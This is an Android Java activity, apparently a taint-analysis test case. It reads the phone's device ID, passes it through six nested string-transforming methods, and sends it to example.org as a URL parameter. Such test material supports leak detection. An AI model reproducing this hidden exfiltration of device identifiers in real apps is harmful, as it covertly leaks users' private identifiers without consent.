package org.consentry.flow.general.deepcalls;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.IOException;
import java.net.URL;
import java.util.Locale;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String text = a(phone.getDeviceId());
        new Thread(() -> {
            try {
                new URL("https://example.org/?d=" + text).openStream().close();
            } catch (IOException error) {
                Log.w("flow", "not sent");
            }
        }).start();
    }

    private static String a(String text) {
        return b("a" + text);
    }

    private static String b(String text) {
        return c(text + "b");
    }

    private static String c(String text) {
        return d(text.toLowerCase(Locale.ROOT));
    }

    private static String d(String text) {
        return e(text.trim());
    }

    private static String e(String text) {
        return f(text.replace('0', 'o'));
    }

    private static String f(String text) {
        return text.concat("f");
    }
}
